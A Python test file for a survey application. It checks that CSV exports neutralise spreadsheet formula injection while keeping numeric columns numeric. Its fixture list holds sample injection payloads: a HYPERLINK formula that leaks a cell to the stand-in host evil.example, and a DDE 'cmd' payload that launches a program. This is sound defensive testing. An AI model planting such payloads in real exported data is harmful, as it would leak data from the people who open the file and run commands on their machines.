"""Free text that a spreadsheet would run as a formula is neutralised in every CSV of the
results domain (OWASP CSV injection): the export over HTTP and from the console, the rates
table, the plan-design inputs. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest
from litestar.testing import TestClient

from survey.cli import main
from survey.context import AppContext
from survey.kernel.spreadsheet import csv_text, neutralise
from tests.survey.answer_builders import AnswerWorld

T = datetime(2026, 3, 9, 8, 0).astimezone()
DAY = date(2026, 3, 8)
TAX = {"agency": "TAX", "service": "TAX-01", "channel": "in_person"}
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
)
BASE = {"q_overall": 4, "q_time": 4, "q_ease": 3}


@pytest.fixture
def world(context: AppContext) -> AnswerWorld:
    world = AnswerWorld(context)
    world.frame_count(**TAX, province="tehran", day=DAY, eligible=100, sampled=9)
    for text in (*HOSTILE, "صف کوتاه‌تر"):
        world.respond(world.invite(**TAX), {**BASE, "q_improve": text}, at=T)
    return world


def _improvements(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    return sorted(row["q_improve"] for row in rows)


def _check(text: str) -> None:
    cells = _improvements(text)
    wanted = [f"'{h}".replace("\r", "\n") for h in HOSTILE]
    assert sorted([*wanted, "صف کوتاه‌تر"]) == cells
    table = pd.read_csv(io.StringIO(text))
    assert pd.api.types.is_float_dtype(table["weight"]) and (table["weight"] > 0).all()
    assert pd.api.types.is_numeric_dtype(table["q_overall"])


def test_the_export_over_http_neutralises_formulas(
    client: TestClient, world: AnswerWorld
) -> None:
    got = client.get(
        "/api/v1/export/responses",
        params={"from": "2026-03-01", "to": "2026-03-31"},
        headers={"Authorization": f"Bearer {world.staff_key('statistician')}"},
    )
    assert got.status_code == 200, got.text
    _check(got.text)


def test_the_export_file_neutralises_formulas(
    context: AppContext, world: AnswerWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings = context.settings
    monkeypatch.setenv("SURVEY_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("SURVEY_SECRET_KEY", settings.secret_key.hex())
    monkeypatch.setenv("SURVEY_VAR_DIR", str(settings.var_dir))
    out = tmp_path / "responses.csv"
    assert main(["export", "responses", "--from", "2026-03-01", "--to", "2026-03-31",
                 "--out", str(out)]) == 0  # fmt: skip
    _check(out.read_text(encoding="utf-8"))


def test_numbers_stay_numbers_and_only_text_changes() -> None:
    frame = pd.DataFrame(
        {
            "delta": [-1.5, 2.0, -3.25],
            "count": [-1, 0, 5],
            "mixed": [-7, "-7", None],
            "label": ["=1+1", "plain", "@x"],
        }
    )
    safe = neutralise(frame)
    assert safe["delta"].tolist() == [-1.5, 2.0, -3.25]
    assert safe["count"].tolist() == [-1, 0, 5]
    assert safe["mixed"].tolist()[:2] == [-7, "'-7"] and pd.isna(safe["mixed"].iloc[2])
    assert safe["label"].tolist() == ["'=1+1", "plain", "'@x"]
    assert frame["label"].tolist() == ["=1+1", "plain", "@x"]  # the input is not changed
    text = csv_text(frame)
    assert text.splitlines()[1] == "-1.5,-1,-7,'=1+1"
    assert csv_text(pd.DataFrame({"n": [1, 2]})) == "n\n1\n2\n"  # nothing to neutralise
    lines = csv_text(pd.DataFrame({"note": ["one\r\ntwo", "three\rfour"], "n": [1, 2]}))
    assert list(csv.reader(io.StringIO(lines))) == [
        ["note", "n"],
        ["one\ntwo", "1"],
        ["three\nfour", "2"],
    ]


def test_column_names_and_categories_are_neutralised_too() -> None:
    frame = pd.DataFrame({"=label": pd.Categorical(["=1+1", "ok", "=1+1"]), "n": [-1, 2, 3]})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [["'=label", "n"], ["'=1+1", "-1"], ["ok", "2"], ["'=1+1", "3"]]
